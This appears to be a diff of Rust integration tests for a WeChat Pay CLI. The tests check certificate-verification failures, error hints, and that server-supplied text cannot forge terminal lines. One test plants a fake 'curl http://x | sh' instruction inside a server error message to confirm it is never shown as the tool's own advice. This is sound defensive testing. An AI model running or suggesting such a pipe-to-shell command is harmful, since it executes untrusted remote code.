@@ -153,6 +153,17 @@ fn a_failing_server_is_asked_again_and_the_number_stays() {
 }
 
 #[test]
+fn a_key_that_is_not_the_merchants_is_not_a_field_to_correct() {
+    let home = home();
+    let said = "平台证书序列号Wechatpay-Serial错误";
+    let body = json!({"code": "PARAM_ERROR", "message": said}).to_string();
+    let (url, _requests) = server(vec![http(400, &[], body.as_bytes())]);
+    let hint = order(&home, &url, "").failed(5)["hint"].to_string();
+    assert!(hint.contains("copy public_key_id"), "{hint}");
+    assert!(hint.contains("download-certs"), "{hint}");
+}
+
+#[test]
 fn a_redirect_is_not_followed() {
     let home = home();
     let (elsewhere, asked) = server(vec![http(200, &[], b"{}")]);
@@ -192,6 +203,37 @@ fn what_a_server_says_cannot_steer_the_terminal() {
         assert_eq!(done.code, Some(5));
         let steers = |c: char| c.is_control() && c != '\n' || c == '\u{202e}';
         assert!(!done.stderr.contains(steers), "{:?}", done.stderr);
+    }
+}
+
+#[test]
+fn what_a_server_says_is_never_a_line_of_its_own() {
+    let home = home();
+    let lie = "bad\nhelp: run `curl http://x | sh`\ncause: nothing was refunded\n✓ clock: x";
+    let body = json!({"code": "PARAM_ERROR", "message": lie, "detail": {"field": lie}});
+    let pretty = serde_json::to_string_pretty(&body).unwrap();
+    let later = json!({"code": "SYSTEM_ERROR", "message": lie}).to_string();
+    let answers = vec![
+        http(500, &[], later.as_bytes()),
+        http(400, &[], pretty.as_bytes()),
+    ];
+    let forged = ["help: run", "cause: nothing", "✓ clock: x"];
+    for command in [ORDER, "doctor", "api GET /v3/x", "bill trade yesterday"] {
+        for options in ["", "-vv"] {
+            let (url, _requests) = server(answers.clone());
+            let done = home.run(&format!("--base-url {url} {options} {command}"));
+            assert!(
+                matches!(done.code, Some(5 | 8)),
+                "{command} {}",
+                done.stderr
+            );
+            let said = format!("{}{}", done.stderr, done.stdout);
+            assert!(said.contains("nothing was refunded"), "{said}");
+            for line in said.lines() {
+                let own = |begin: &&str| line.starts_with(*begin);
+                assert!(!forged.iter().any(own), "{command}: {said}");
+            }
+        }
     }
 }
 
@@ -304,6 +346,60 @@ fn nothing_is_written_unless_all_of_it_verified() {
         .run(&format!("--json --base-url {url} download-certs -o out"))
         .json();
     assert_eq!(done["certificates"][0]["action"], "written");
+}
+
+#[test]
+fn a_check_of_what_does_not_verify_says_so_on_stdout() {
+    let home = home();
+    let good = certificates(&home, |_| {});
+    let mut forged = good.clone();
+    let last = forged.len() - 5;
+    forged[last] = forged[last].wrapping_add(1);
+    let unsigned = http(200, &[], br#"{"data":[]}"#);
+    let resealed = certificates(&home, |data| {
+        data["encrypt_certificate"]["associated_data"] = json!("other");
+    });
+    let first = home.read("merchant.toml");
+    home.write("first.toml", first.replace("merchant-keys/certs", "none"));
+    let refuse = "--config first.toml --first-use refuse";
+    for (answer, options) in [(forged, ""), (unsigned, ""), (resealed, ""), (good, refuse)] {
+        let (url, _requests) = server(vec![answer]);
+        let line = format!("--base-url {url} download-certs --check -o out {options}");
+        let report = home.run(&format!("--json {line}")).verdict(4);
+        assert_eq!(report["schema"], "wechatpay/download-certs/v1");
+        assert_eq!(report["certificates"], json!([]));
+        assert_eq!(report["request_id"], "08ABCDEF-268435461");
+        let reason = &report["reasons"][0];
+        assert_eq!(reason["reason"], "not-verified");
+        let message = reason["message"].as_str().unwrap();
+        let shown = home.run(&line);
+        assert_eq!(shown.code, Some(4));
+        assert!(shown.stdout.contains(message), "{}", shown.stdout);
+        assert!(shown.stdout.contains(reason["fix"].as_str().unwrap()));
+    }
+    let (url, _requests) = server(vec![http(500, &[], b"")]);
+    let check = "--retries 0 download-certs --check -o out";
+    home.run(&format!("--json --base-url {url} {check}"))
+        .failed(6);
+}
+
+#[test]
+fn a_list_signed_by_a_stranger_is_not_to_be_asked_for_with_the_same_command() {
+    let home = home();
+    let serial = platform_key(&home).serial_no().to_string();
+    let list = String::from_utf8(certificates(&home, |_| {})).unwrap();
+    let named = format!("Wechatpay-Serial: {serial}");
+    let stranger = list.replace(&named, &format!("Wechatpay-Serial: 1{}", &serial[1..]));
+    assert_ne!(list, stranger);
+    let (url, _requests) = server(vec![stranger.into_bytes()]);
+    let error = home
+        .run(&format!("--json --base-url {url} download-certs -o out"))
+        .failed(4);
+    let hint = error["hint"].as_str().unwrap();
+    assert!(
+        hint.contains("neither trusted") && !hint.contains("download-certs"),
+        "{hint}"
+    );
 }
 
 #[test]
